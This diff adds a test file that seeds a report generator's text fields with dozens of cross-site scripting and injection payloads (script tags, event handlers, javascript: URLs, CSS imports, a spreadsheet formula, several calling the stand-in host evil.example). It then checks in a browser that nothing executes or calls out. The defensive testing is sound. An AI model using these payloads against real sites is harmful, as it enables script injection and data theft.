@@ -1,0 +1,150 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { pathToFileURL } from 'node:url'
+import { suite } from 'uvu'
+import * as assert from 'uvu/assert'
+import { Article, Claim } from '../../lib/claim.ts'
+import { formatArticles, formatClaims } from '../../lib/tables/format.ts'
+import { launch, runInBrowser } from '../browser/browser.ts'
+import { howmany } from '../command/howmany.ts'
+
+const evil = 'https://evil.example/x'
+const call = 'alert(1)'
+/** One of each class: elements, attributes, addresses, styles, other parsers, other languages, odd characters. */
+const payloads = [
+  `<script>${call}</script>`,
+  `<ScRiPt src=${evil}></sCrIpT>`,
+  `</script><script>${call}//`,
+  `<img src=x onerror=${call}>`,
+  `<img srcset="${evil} 2x">`,
+  `<svg onload=${call}>`,
+  `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
+  `<svg><use href="${evil}#x"/></svg>`,
+  `<math href="javascript:${call}">x</math>`,
+  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
+  `<object data="${evil}"></object><embed src="${evil}">`,
+  `<video><source onerror=${call}></video>`,
+  `<body onpageshow=${call}>`,
+  `<details open ontoggle=${call}>`,
+  `<input autofocus onfocus=${call}>`,
+  `<base href="${evil}">`,
+  `<meta http-equiv=refresh content="0;url=${evil}">`,
+  `<link rel=stylesheet href="${evil}">`,
+  `<style>@import "${evil}";</style>`,
+  `</style><img src=${evil}>`,
+  `<form action="javascript:${call}"><button>x</button></form>`,
+  `<button formaction="javascript:${call}">x</button>`,
+  `</title></textarea></template></noscript><img src=x onerror=${call}>`,
+  `<!--><img src=x onerror=${call}>-->`,
+  `<![CDATA[<img src=x onerror=${call}>]]>`,
+  `" onmouseover="${call}" x="`,
+  `' onmouseover='${call}' x='`,
+  '` onmouseover=`alert(1)` x=`',
+  `x onmouseover=${call} `,
+  `" style="background:url(${evil})" x="`,
+  `javascript:${call}`,
+  ` java\tscript:${call}`,
+  `data:text/html,<script>${call}</script>`,
+  `vbscript:${call}`,
+  '//evil.example/x',
+  evil,
+  `[x](javascript:${call})`,
+  `![x](${evil})`,
+  `<javascript:${call}>`,
+  `[x]: ${evil}\n[x]`,
+  '```\n</code></pre><img src=x onerror=alert(1)>',
+  `&lt;img src=x onerror=${call}&gt;`,
+  `&#60;img src=x onerror=${call}&#62;`,
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  `{{constructor.constructor('${call}')()}}`,
+  "'+alert(1)+'",
+  "datum.source'];alert(1);//",
+  '=HYPERLINK("https://evil.example/x","x")',
+  '\u2028alert(1)\u2029',
+  '\u202e>tpircs<\u202c',
+  `<scr\u0131pt>${call}</scr\u0131pt>`,
+  '<img/src=x/onerror=alert(1)//',
+  '<<script>alert(1)//<</script>',
+  '__proto__'
+] as const
+
+const test = suite('hostile texts in a report')
+const folder = mkdtempSync(join(tmpdir(), 'howmany-'))
+test.after(() => rmSync(folder, { recursive: true }))
+
+/** An article and two claims for each payload, which stands in every field that holds a text. */
+function write(): void {
+  const rows = payloads.map((x, i) => {
+    const text = `${x} Police said that 12 people were killed in Vellmar. ${x}`
+    const article = Article.parse({
+      id: `a${i}`,
+      title: x,
+      publisher: x,
+      published: '2021-03-04',
+      url: x,
+      event: x,
+      text
+    })
+    const common = { article: article.id, via: [x], cue: x, place: x, population: x, unit: x, notes: [x] }
+    const of = { ...common, source: x, measure: 'killed' as const, bound: 'exact' as const, event: x, extra: x }
+    const claims = [12, 14].map((best) =>
+      Claim.parse({ ...of, id: `${x} ${best}`, best, source: best === 12 ? x : `${x}!`, words: `${x} ${best}` })
+    )
+    return { article, claims }
+  })
+  writeFileSync(join(folder, 'articles.csv'), formatArticles(rows.map(({ article }) => article)))
+  writeFileSync(join(folder, 'claims.csv'), formatClaims(rows.flatMap(({ claims }) => claims)))
+}
+
+test(`${payloads.length} payloads in every text field: nothing runs, asks for anything or is said, whatever is done`, async () => {
+  write()
+  const { err } = await howmany(['report', 'articles.csv', 'claims.csv', '-o', 'out', '--format', 'html'], {
+    cwd: folder
+  })
+  assert.is(err, '')
+  const browser = await launch()
+  try {
+    const page = await browser.newPage()
+    const heard: string[] = []
+    const address = pathToFileURL(join(folder, 'out/report.html')).href
+    page.on('console', (message) => heard.push(`console: ${message.text()}`))
+    page.on('pageerror', (error) => heard.push(`error: ${error.message}`))
+    page.on('dialog', (dialog) => {
+      heard.push(`dialog: ${dialog.message()}`)
+      void dialog.dismiss()
+    })
+    page.on('request', (request) => request.url() !== address && heard.push(`request: ${request.url().slice(0, 80)}`))
+    await page.goto(address)
+    const there = await page.evaluate(() => {
+      for (const details of document.querySelectorAll('details')) details.open = true
+      // Every mark, row and button is pointed at, and every claim opened to be edited
+      for (const node of document.querySelectorAll('mark, tr, [data-mark], button, summary'))
+        for (const kind of ['pointerover', 'mouseover', 'mouseenter', 'focusin'])
+          node.dispatchEvent(new MouseEvent(kind, { bubbles: true }))
+      for (const button of document.querySelectorAll('button'))
+        if (/^Edit/.test(button.textContent ?? '')) button.click()
+      dispatchEvent(new Event('beforeprint'))
+      const odd =
+        'main script:not([type="application/json"]), main img, iframe, object, embed, video, base, math, main form[action]'
+      const named = [...document.querySelectorAll('*')].flatMap((node) => node.getAttributeNames())
+      const links = [...document.querySelectorAll('a')].map((a) => a.protocol)
+      return {
+        forms: document.querySelectorAll('.claim form').length,
+        odd: [...document.querySelectorAll(odd)].map((node) => node.outerHTML.slice(0, 90)),
+        handlers: named.filter((name) => name.startsWith('on')),
+        links: [...new Set(links)].filter((kind) => !['https:', 'file:'].includes(kind))
+      }
+    })
+    assert.ok(there.forms > 0, 'claims are opened to be edited')
+    assert.equal({ ...there, forms: 0 }, { forms: 0, odd: [], handlers: [], links: [] })
+    const shown = (await page.locator('body').textContent()) ?? ''
+    assert.ok(shown.includes(`<img src=x onerror=${call}>`), 'it is shown as text')
+    await page.pdf()
+    assert.equal(heard, [])
+  } finally {
+    await browser.close()
+  }
+})
+
+runInBrowser(() => test.run())
